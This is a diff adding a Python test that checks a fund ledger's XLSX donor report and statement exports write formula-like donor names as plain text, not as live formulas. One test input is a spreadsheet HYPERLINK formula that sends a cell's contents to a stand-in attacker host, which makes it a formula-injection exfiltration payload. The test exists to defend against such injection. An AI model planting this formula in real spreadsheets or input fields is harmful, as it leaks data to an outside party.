@@ -53,3 +53,28 @@ def test_the_donor_report(world: Engine) -> None:
         "3,000.00",
     ] in rows
     assert ["Open Networks Foundation", "general", "0.00", "9,412.00", "500.00", "500.00"] in rows
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_xlsx_downloads_write_texts_as_texts(world: Engine) -> None:
+    """A donor named as a formula (and other formula starts) is shown as text in the XLSX of
+    the donor report and of the statement: no cell is a formula."""
+    from factories import ACTOR
+    from stdgap.fund import ledger
+
+    names = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\tx", "=1\x01+1"]
+    for name in names:
+        ledger.add_donor.perform(world, ACTOR, name, "other")
+        ledger.receive.perform(world, ACTOR, name, "general", "10")
+    for report in (donor_report(world), statement_report(world, 2025)[0]):
+        book = load_workbook(io.BytesIO(render(report, "xlsx")))
+        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+        assert cells and all(c.data_type != "f" for c in cells)
+        assert not any(str(c.value or "").startswith(("=", "+", "-", "@", "\t")) for c in cells)
+    book = load_workbook(io.BytesIO(render(donor_report(world), "xlsx")))
+    texts = [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert "'" + EVIL in texts and "'+1+1" in texts and "'@SUM(A1)" in texts
+    # the figures stay numbers
+    assert any(isinstance(v, int | float) and v == 10 for v in texts)
